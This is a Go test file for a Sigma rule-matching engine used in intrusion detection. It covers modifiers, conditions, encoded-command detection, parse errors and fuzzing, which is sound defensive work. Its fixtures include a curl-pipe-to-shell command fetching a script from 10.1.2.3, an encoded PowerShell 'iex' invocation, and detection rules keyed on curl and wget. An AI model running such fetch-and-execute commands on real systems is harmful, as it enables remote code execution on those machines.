package sigma

import (
	"strings"
	"testing"
)

var testSchema = NewSchema([]string{"Image", "CommandLine", "ParentImage", "DestinationIp", "DestinationPort", "Uid", "Ancestors", "Empty"},
	map[string]string{"exe": "Image"}, "CommandLine")

func mustRule(t *testing.T, y string) *Rule {
	t.Helper()
	rules, err := Parse("t.yml", []byte(y), testSchema)
	if err != nil {
		t.Fatalf("parse: %v\n%s", err, y)
	}
	if len(rules) != 1 {
		t.Fatalf("%d rules", len(rules))
	}
	return rules[0]
}

func rec(fields map[string][]string) *Record {
	r := NewRecord(testSchema)
	r.Reset(NewMapSource(testSchema, fields))
	return r
}

func det(body string) string {
	return "title: t\nid: x\nlevel: high\nlogsource: {category: process_creation, product: linux}\ndetection:\n" + body
}

func TestModifiersAndConditions(t *testing.T) {
	ev := map[string][]string{
		"Image":         {"/usr/bin/Bash"},
		"CommandLine":   {"bash -c 'curl http://10.1.2.3/x.sh | sh'"},
		"ParentImage":   {"/usr/sbin/nginx"},
		"DestinationIp": {"10.1.2.3"},
		"Uid":           {"1000"},
		"Ancestors":     {"/usr/sbin/nginx", "/usr/lib/systemd/systemd"},
		"Empty":         {""},
	}
	cases := []struct {
		name, body string
		want       bool
	}{
		{"equals case-insensitive", "  sel:\n    Image: /usr/bin/bash\n  condition: sel", true},
		{"equals no match", "  sel:\n    Image: /usr/bin/sh\n  condition: sel", false},
		{"endswith", "  sel:\n    Image|endswith: /BASH\n  condition: sel", true},
		{"startswith", "  sel:\n    Image|startswith: /usr/\n  condition: sel", true},
		{"startswith no", "  sel:\n    Image|startswith: /bin/\n  condition: sel", false},
		{"contains", "  sel:\n    CommandLine|contains: CURL http\n  condition: sel", true},
		{"contains list is OR", "  sel:\n    CommandLine|contains:\n      - wget\n      - curl\n  condition: sel", true},
		{"contains all", "  sel:\n    CommandLine|contains|all:\n      - curl\n      - '| sh'\n  condition: sel", true},
		{"contains all fails", "  sel:\n    CommandLine|contains|all:\n      - curl\n      - wget\n  condition: sel", false},
		{"wildcard star", "  sel:\n    Image: '/usr/*/bash'\n  condition: sel", true},
		{"wildcard question", "  sel:\n    Image: '/usr/bi?/bash'\n  condition: sel", true},
		{"wildcard question one char only", "  sel:\n    Image: '/usr/b?/bash'\n  condition: sel", false},
		{"escaped star is literal", "  sel:\n    Image: '/usr/bin/ba\\*'\n  condition: sel", false},
		{"inner wildcard in contains", "  sel:\n    CommandLine|contains: 'curl*x.sh'\n  condition: sel", true},
		{"re is case-sensitive", "  sel:\n    Image|re: '/usr/bin/bash'\n  condition: sel", false},
		{"re matches", "  sel:\n    CommandLine|re: 'http://[0-9]+\\.[0-9]+'\n  condition: sel", true},
		{"re i", "  sel:\n    Image|re|i: 'BASH$'\n  condition: sel", true},
		{"cidr", "  sel:\n    DestinationIp|cidr: 10.0.0.0/8\n  condition: sel", true},
		{"cidr no", "  sel:\n    DestinationIp|cidr:\n      - 192.168.0.0/16\n      - ::1/128\n  condition: sel", false},
		{"map is AND", "  sel:\n    Image|endswith: /bash\n    ParentImage|endswith: /nginx\n  condition: sel", true},
		{"map AND fails", "  sel:\n    Image|endswith: /bash\n    ParentImage|endswith: /apache2\n  condition: sel", false},
		{"list of maps is OR", "  sel:\n    - Image|endswith: /zsh\n    - ParentImage|endswith: /nginx\n  condition: sel", true},
		{"keywords", "  keywords:\n    - 'x.sh'\n    - nothing\n  condition: keywords", true},
		{"keywords all", "  keywords:\n    '|all':\n      - curl\n      - x.sh\n  condition: keywords", true},
		{"keywords none", "  keywords:\n    - wget\n  condition: keywords", false},
		{"and not", "  sel:\n    Image|endswith: /bash\n  filter:\n    Uid: 0\n  condition: sel and not filter", true},
		{"and not filtered", "  sel:\n    Image|endswith: /bash\n  filter:\n    Uid: 1000\n  condition: sel and not filter", false},
		{"or", "  a:\n    Image: x\n  b:\n    Uid: 1000\n  condition: a or b", true},
		{"parentheses", "  a:\n    Image: x\n  b:\n    Uid: 1000\n  c:\n    Uid: 5\n  condition: (a or b) and not c", true},
		{"precedence and over or", "  a:\n    Image: x\n  b:\n    Uid: 1000\n  c:\n    Uid: 5\n  condition: b or a and c", true},
		{"not binds tighter", "  a:\n    Image: x\n  b:\n    Uid: 1000\n  condition: not a and b", true},
		{"1 of pattern", "  selection_a:\n    Image: x\n  selection_b:\n    Uid: 1000\n  condition: 1 of selection_*", true},
		{"all of pattern", "  selection_a:\n    Image: x\n  selection_b:\n    Uid: 1000\n  condition: all of selection_*", false},
		{"all of them", "  a:\n    Image|endswith: bash\n  b:\n    Uid: 1000\n  condition: all of them", true},
		{"1 of them", "  a:\n    Image: no\n  b:\n    Uid: 1\n  condition: 1 of them", false},
		{"not 1 of filter", "  sel:\n    Uid: 1000\n  filter_main_a:\n    Image: x\n  filter_main_b:\n    Image: y\n  condition: sel and not 1 of filter_main_*", true},
		{"condition list is OR", "  a:\n    Image: x\n  b:\n    Uid: 1000\n  condition:\n    - a\n    - b", true},
		{"multi-valued field any", "  sel:\n    Ancestors|endswith: /systemd\n  condition: sel", true},
		{"multi-valued all across values", "  sel:\n    Ancestors|endswith|all:\n      - /systemd\n      - /nginx\n  condition: sel", true},
		{"null matches absent", "  sel:\n    DestinationPort: null\n  condition: sel", true},
		{"null does not match present", "  sel:\n    Image: null\n  condition: sel", false},
		{"empty matches empty", "  sel:\n    Empty: ''\n  condition: sel", true},
		{"empty matches absent", "  sel:\n    DestinationPort: ''\n  condition: sel", true},
		{"regex never matches absent", "  sel:\n    DestinationPort|re: '.*'\n  condition: sel", false},
		{"wildcard never matches absent", "  sel:\n    DestinationPort: '*'\n  condition: sel", false},
		{"contains never matches absent", "  sel:\n    DestinationPort|contains: ''\n  condition: sel", false},
		{"exists true", "  sel:\n    Image|exists: true\n  condition: sel", true},
		{"exists false", "  sel:\n    DestinationPort|exists: false\n  condition: sel", true},
		{"unmapped field never matches", "  sel:\n    LogonId: 0\n  condition: sel", false},
		{"unmapped field under not", "  sel:\n    Uid: 1000\n  f:\n    LogonId: 0\n  condition: sel and not f", true},
		{"integer value", "  sel:\n    Uid: 1000\n  condition: sel", true},
		{"gt", "  sel:\n    Uid|gt: 999\n  condition: sel", true},
		{"lt", "  sel:\n    Uid|lt: 1000\n  condition: sel", false},
		{"gte", "  sel:\n    Uid|gte: 1000\n  condition: sel", true},
		{"windash", "  sel:\n    CommandLine|windash|contains: '/c '\n  condition: sel", false},
		{"cased", "  sel:\n    Image|cased: /usr/bin/bash\n  condition: sel", false},
		{"cased match", "  sel:\n    Image|cased|endswith: Bash\n  condition: sel", true},
		{"fieldref equal", "  sel:\n    ParentImage|fieldref: Ancestors\n  condition: sel", true},
		{"fieldref differs", "  sel:\n    Image|fieldref: ParentImage\n  condition: sel", false},
		{"fieldref contains", "  sel:\n    CommandLine|fieldref|contains: Empty\n  condition: sel", true},
		{"alias field", "  sel:\n    exe|endswith: bash\n  condition: sel", true},
		{"field name case-insensitive", "  sel:\n    image|endswith: bash\n  condition: sel", true},
	}
	r := rec(ev)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			rule := mustRule(t, det(c.body))
			if got := rule.Match(r); got != c.want {
				t.Fatalf("match = %v, want %v", got, c.want)
			}
		})
	}
}

func TestBase64Modifiers(t *testing.T) {
	// "Y3VybA==" is base64("curl"); base64offset finds it anywhere in a longer encoded text.
	r := rec(map[string][]string{"CommandLine": {"echo ZXZpbCBjdXJsIGh0dHA= | base64 -d"}})
	rule := mustRule(t, det("  sel:\n    CommandLine|base64offset|contains: 'curl'\n  condition: sel"))
	if !rule.Match(r) {
		t.Fatal("base64offset did not match")
	}
	rule = mustRule(t, det("  sel:\n    CommandLine|base64|contains: 'evil curl http'\n  condition: sel"))
	if !rule.Match(r) {
		t.Fatal("base64 did not match")
	}
}

func TestUTF16Base64(t *testing.T) {
	// "aQBlAHgA" is base64 of "iex" in UTF-16LE (PowerShell -EncodedCommand style).
	r := rec(map[string][]string{"CommandLine": {"powershell -enc aQBlAHgAIAAoAE4AZQB3AC0ATwBi"}})
	rule := mustRule(t, det("  sel:\n    CommandLine|wide|base64offset|contains: 'iex ('\n  condition: sel"))
	if !rule.Match(r) {
		t.Fatal("wide|base64offset did not match")
	}
	if _, err := Parse("x.yml", []byte(det("  sel:\n    CommandLine|utf16le|contains: x\n  condition: sel")), testSchema); err == nil {
		t.Fatal("utf16le without base64 accepted")
	}
}

func TestParseErrors(t *testing.T) {
	cases := []struct{ name, y, want string }{
		{"no title", "detection:\n  a: {Image: x}\n  condition: a", "missing title"},
		{"no detection", "title: t", "missing detection"},
		{"no condition", det("  a:\n    Image: x\n"), "no condition"},
		{"unknown selection", det("  a:\n    Image: x\n  condition: b"), "unknown selection \"b\""},
		{"bad modifier", det("  a:\n    Image|sortof: x\n  condition: a"), "unsupported modifier \"sortof\""},
		{"bad regex", det("  a:\n    Image|re: '(?<=x)y'\n  condition: a"), "regular expression"},
		{"aggregation", det("  a:\n    Image: x\n  condition: a | count() > 5"), "aggregation expressions"},
		{"unbalanced", det("  a:\n    Image: x\n  condition: (a"), "expected ')'"},
		{"dangling and", det("  a:\n    Image: x\n  condition: a and"), "unexpected end"},
		{"pattern matches nothing", det("  a:\n    Image: x\n  condition: 1 of sel*"), "matches no selection"},
		{"bare wildcard", det("  sel1:\n    Image: x\n  condition: sel*"), "needs '1 of'"},
		{"bad cidr", det("  a:\n    DestinationIp|cidr: 10.0.0/8\n  condition: a"), "cidr"},
		{"bad level", "title: t\nlevel: severe\ndetection:\n  a: {Image: x}\n  condition: a", "unknown level"},
		{"yaml", "title: [", "YAML"},
		{"two kinds", det("  a:\n    Image|contains|endswith: x\n  condition: a"), "exclusive"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := Parse("bad.yml", []byte(c.y), testSchema)
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("err = %v, want it to contain %q", err, c.want)
			}
			if !strings.HasPrefix(err.Error(), "bad.yml") {
				t.Fatalf("error has no file position: %v", err)
			}
		})
	}
}

func TestErrorLine(t *testing.T) {
	y := det("  a:\n    Image: x\n  b:\n    Image|nope: y\n  condition: a")
	_, err := Parse("f.yml", []byte(y), testSchema)
	if err == nil || !strings.HasPrefix(err.Error(), "f.yml:9:5:") {
		t.Fatalf("want f.yml:9:5, got %v", err)
	}
}

func TestEvidence(t *testing.T) {
	rule := mustRule(t, det("  sel:\n    Image|endswith: /bash\n  filter:\n    Uid: 0\n  condition: sel and not filter"))
	r := rec(map[string][]string{"Image": {"/bin/bash"}, "Uid": {"1000"}})
	if !rule.Match(r) {
		t.Fatal("no match")
	}
	ev := rule.Evidence(r)
	if len(ev) != 1 || ev[0].Field != "Image" || ev[0].Value != "/bin/bash" {
		t.Fatalf("evidence %+v", ev)
	}
}

func TestRecordReuse(t *testing.T) {
	rule := mustRule(t, det("  sel:\n    Image|endswith: /bash\n  condition: sel"))
	r := NewRecord(testSchema)
	for i, img := range []string{"/bin/bash", "/bin/sh", "/usr/bin/BASH", ""} {
		r.Reset(NewMapSource(testSchema, map[string][]string{"Image": {img}}))
		want := i == 0 || i == 2
		if got := rule.Match(r); got != want {
			t.Fatalf("%q: got %v", img, got)
		}
	}
}

func TestGlob(t *testing.T) {
	cases := []struct {
		pat, s string
		want   bool
	}{
		{"a*b*c", "axxbyyc", true}, {"a*b*c", "axxbyy", false}, {"*", "", true}, {"?", "", false},
		{"?", "é", true}, {"a?c", "abc", true}, {"*a*a*", "banana", true}, {"a\\*b", "a*b", true},
		{"a\\*b", "axb", false}, {"a\\\\*", "a\\xyz", true}, {"c:\\windows\\*", "c:\\windows\\x", false}, {"c:\\windows\\\\*", "c:\\windows\\x", true},
	}
	for _, c := range cases {
		if got := globMatch(parseWildcards(c.pat, false), c.s); got != c.want {
			t.Errorf("glob(%q, %q) = %v", c.pat, c.s, got)
		}
	}
}

func FuzzParseRule(f *testing.F) {
	f.Add(det("  sel:\n    Image|endswith: /bash\n  condition: sel"))
	f.Add(det("  selection_a:\n    - CommandLine|contains|all: [a, b]\n  keywords: [x, y]\n  condition: 1 of selection_* or keywords"))
	f.Add("title: t\ndetection: {a: {x|re: '('}, condition: a}")
	f.Fuzz(func(t *testing.T, y string) {
		rules, _ := Parse("fuzz.yml", []byte(y), testSchema)
		r := rec(map[string][]string{"Image": {"/bin/bash"}, "CommandLine": {"a b x"}})
		for _, rule := range rules {
			rule.Match(r)
			rule.Evidence(r)
		}
	})
}

func FuzzCondition(f *testing.F) {
	for _, s := range []string{"a and not (b or c)", "1 of sel_* and all of them", "not not a", "((a))", "a | count() > 3", "2 of them"} {
		f.Add(s)
	}
	sels := map[string]*selection{}
	for _, n := range []string{"a", "b", "c", "sel_1", "sel_2"} {
		sels[n] = &selection{groups: [][]*fieldMatcher{{{field: 0, ms: []valueMatcher{mEquals(n)}}}}}
	}
	f.Fuzz(func(t *testing.T, cond string) {
		n, _, err := parseCondition(cond, sels)
		if err == nil {
			n.eval(rec(map[string][]string{"Image": {"a"}}))
		}
	})
}
